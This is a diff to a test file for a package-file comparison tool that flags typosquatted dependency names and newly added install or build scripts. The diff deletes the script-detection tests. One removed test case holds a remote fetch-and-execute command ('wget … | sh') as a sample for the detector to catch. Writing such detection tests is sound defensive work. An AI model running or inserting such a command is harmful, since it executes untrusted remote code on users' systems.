@@ -1,6 +1,6 @@
 import { expect, it } from 'vitest';
 import { compareFiles } from './compare-files.ts';
-import type { Dependency, InstallScript, PackageFile } from './package-file.ts';
+import type { Dependency, PackageFile } from './package-file.ts';
 import type { Format } from './read-package-file.ts';
 
 const manifest: Format = { ecosystem: 'npm', isLock: false, read: () => undefined };
@@ -218,44 +218,4 @@ it.each<[string, PackageFile | undefined, Format, readonly string[]]>([
   ['as before', file(asked('lodahs', '1')), manifest, []],
 ])('takes a new name for an imitation %s', (_, base, format, expected) => {
   expect(steps(base, file(asked('lodahs', '1')), format)).toEqual(expected);
-});
-
-const script = (name: string, command: string): InstallScript => ({ name, command, line: 3 });
-const scripts = (...list: readonly InstallScript[]): PackageFile => ({ dependencies: [], scripts: list });
-
-it.each([
-  ['postinstall', 'node setup.js', true],
-  ['postinstall', 'npm run a&&npm run b || husky; patch-package', false],
-  ['postinstall', 'npm run a && node setup.js', true],
-  ['postinstall', 'npm run eval', false],
-  ['prepare', 'node -e "run()"', true],
-  ['prepare', 'node build.js', false],
-  ['build', 'node -e "run()"', false],
-  ['build', 'wget -q acme.dev/x -O- | sh', true],
-  ['build', 'curl acme.dev/health', false],
-])('reads the new script %s: %s', (name, command, isNoticed) => {
-  const found = compareFiles(scripts(script('test', 'vitest')), scripts(script(name, command)), manifest);
-
-  expect(found).toEqual(
-    isNoticed ? [{ code: 'dependency-script', name, what: `runs \`${command}\``, line: 3 }] : [],
-  );
-});
-
-it('compares scripts by name and command, and shows the first part of a long one', () => {
-  const long = `node ${'x'.repeat(100)}`;
-  const base = scripts(script('postinstall', 'node a.js'), script('other', 'node b.js'));
-
-  const found = [
-    steps(base, scripts(script('postinstall', 'node a.js'))),
-    steps(base, scripts(script('postinstall', 'node b.js'))),
-    steps(base, scripts(script('preinstall', 'node a.js'))),
-    steps(undefined, scripts(script('postinstall', long))),
-  ];
-
-  expect(found).toEqual([
-    [],
-    ['dependency-script postinstall runs `node b.js`'],
-    ['dependency-script preinstall runs `node a.js`'],
-    [`dependency-script postinstall runs \`${long.slice(0, 80)}\``],
-  ]);
 });
